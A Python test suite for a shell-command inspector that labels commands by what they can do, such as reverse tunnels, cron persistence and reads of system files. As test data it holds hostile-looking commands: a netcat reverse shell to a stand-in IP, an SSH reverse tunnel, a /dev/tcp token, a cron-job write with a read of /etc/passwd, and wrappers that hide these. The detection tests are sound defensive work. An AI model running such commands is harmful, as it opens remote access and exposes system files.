"""Shell inspector: table-driven cases (cases/shell.yaml) and properties."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatekeeper.errors import InspectionError
from gatekeeper.inspectors import INSPECTORS, InspectContext
from gatekeeper.inspectors.shell import MAX_DEPTH, MAX_INPUT, inspect_shell, inspect_shell_command
from gatekeeper.models import Capability
from gatekeeper.yamlfile import read_yaml

CTX = InspectContext()
CASES: list[dict[str, Any]] = read_yaml(Path(__file__).parent / "cases" / "shell.yaml")


def names(cmd: str) -> set[str]:
    return {c.name for c in inspect_shell(cmd, CTX)}


@pytest.mark.parametrize("case", CASES, ids=[c["cmd"][:60] for c in CASES])
def test_case(case: dict[str, Any]) -> None:
    got = names(case["cmd"])
    if "exact" in case:
        assert got == set(case["exact"])
    assert set(case.get("expect", [])) <= got, f"missing {set(case.get('expect', [])) - got}"
    assert not set(case.get("forbid", [])) & got


def test_registered() -> None:
    assert INSPECTORS["shell"] is inspect_shell


@pytest.mark.parametrize("value", [None, 3, ["ls"], {"cmd": "ls"}, b"ls"])
def test_wrong_type_is_invalid(value: object) -> None:
    assert [c.name for c in inspect_shell(value, CTX)] == ["inspect.invalid"]


def test_evidence_points_at_the_fragment() -> None:
    caps = {c.name: c for c in inspect_shell("git status && ssh -N -R 2222:localhost:22 u@203.0.113.7", CTX)}
    assert "-R 2222:localhost:22" in caps["net.tunnel.reverse"].evidence


def test_parse_failure_is_opaque_with_the_error_as_evidence() -> None:
    caps = {c.name: c for c in inspect_shell("echo 'unterminated", CTX)}
    assert "shell.opaque" in caps
    assert "unparseable" in caps["shell.opaque"].evidence


def test_depth_limit() -> None:
    cmd = "ssh -R 1:a:2 h"
    for _ in range(MAX_DEPTH + 2):
        cmd = f"bash -c {_quote(cmd)}"
    assert "shell.opaque" in names(cmd)


def _quote(s: str) -> str:
    return "'" + s.replace("'", "'\\''") + "'"


def test_length_cap() -> None:
    assert names("echo " + "a" * MAX_INPUT) == {"shell.opaque"}


def test_deep_nesting_does_not_crash() -> None:
    assert "shell.opaque" in names("$(" * 400 + "ls" + ")" * 400)


def test_cwd_comes_from_context() -> None:
    caps = {c.name for c in inspect_shell("echo x > out", InspectContext(workspace="/srv/app"))}
    assert "fs.write:/srv/app/out" in caps


def test_results_are_fresh_lists() -> None:
    a = inspect_shell("git status", CTX)
    a.append(Capability("x"))
    assert [c.name for c in inspect_shell("git status", CTX)] == ["proc.exec:git"]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_text_never_crashes(text: str) -> None:
    try:
        caps = inspect_shell(text, CTX)
    except InspectionError:
        return
    assert isinstance(caps, list)
    assert all(isinstance(c, Capability) for c in caps)


_TOKENS = st.sampled_from(
    [
        "ssh",
        "-R",
        "1:a:2",
        "h",
        "|",
        "&&",
        ";",
        "$(",
        ")",
        "`",
        "'",
        '"',
        "bash",
        "-c",
        "eval",
        "sudo",
        "env",
        "A=b",
        "nc",
        "-e",
        "/bin/sh",
        ">",
        "/dev/tcp/1.2.3.4/5",
        "<(",
        "curl",
        "x://y",
        "\n",
        "$X",
        "*",
        "{a,b}",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_TOKENS, max_size=25))
def test_shell_like_token_soup_never_crashes(tokens: list[str]) -> None:
    caps = inspect_shell(" ".join(tokens), CTX)
    assert all(isinstance(c, Capability) for c in caps)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(["ssh -R 1:a:2 h.example", "nc -e /bin/sh 1.2.3.4 9"]), st.integers(0, 4))
def test_hiding_inside_wrappers_does_not_hide(cmd: str, layers: int) -> None:
    plain = names(cmd) - {c for c in names(cmd) if c.startswith("proc.exec:")}
    wrapped = cmd
    for i in range(layers):
        wrapped = ["nohup ", "timeout 5 ", "env A=1 ", "sudo -u root ", "nice -n 1 "][i] + wrapped
    assert plain <= names(wrapped)


# --- shell.command: the whole {cmd, cwd} arguments object -----------------------------------


def command_names(value: object) -> set[str]:
    return {c.name for c in inspect_shell_command(value, CTX)}


def test_shell_command_registered() -> None:
    assert INSPECTORS["shell.command"] is inspect_shell_command


def test_shell_command_without_cwd_is_the_shell_inspector() -> None:
    cmd = "cd /etc/cron.d && echo x > job"
    assert command_names({"cmd": cmd}) == names(cmd)


def test_shell_command_resolves_against_cwd_and_reads_it() -> None:
    got = command_names({"cmd": "echo x > job && cat ../passwd", "cwd": "/etc/cron.d"})
    assert {"fs.read:/etc/cron.d", "fs.write:/etc/cron.d/job", "persist.cron", "fs.read:/etc/passwd"} <= got
    assert "fs.write:/workspace/job" not in got
    got = command_names({"cmd": "cat ../README.md", "cwd": "sub"})
    assert got == {"proc.exec:cat", "fs.read:/workspace/sub", "fs.read:/workspace/README.md"}


def test_shell_command_unusable_cwd_fails_closed() -> None:
    got = command_names({"cmd": "echo x > job", "cwd": "a\x00b"})
    assert {"fs.opaque", "shell.opaque"} <= got


@pytest.mark.parametrize("value", [None, "ls", ["ls"], {"cmd": 3}, {"cmd": "ls", "cwd": 7}, {}])
def test_shell_command_wrong_shape_is_invalid(value: object) -> None:
    assert [c.name for c in inspect_shell_command(value, CTX)] == ["inspect.invalid"]


def test_cache_is_keyed_by_cwd() -> None:
    assert "fs.write:/a/x" in command_names({"cmd": "echo > x", "cwd": "/a"})
    assert "fs.write:/b/x" in command_names({"cmd": "echo > x", "cwd": "/b"})


@pytest.mark.parametrize(
    "cmd",
    [
        "x '${:i,E'\"'\"'i'=",
        "npm --'1a${:i,E'\"'\"'i'='6+ZJ'",
    ],
)
def test_a_brace_without_its_end_is_doubt_not_a_runaway_parse(cmd: str) -> None:
    """bashlex read ``${`` with no ``}`` from the start of the word again, forever (4 GB in 44 s
    for one command line); it is a parse error now, and so doubt."""
    caps = {c.name for c in inspect_shell(cmd, InspectContext())}
    assert "shell.opaque" in caps
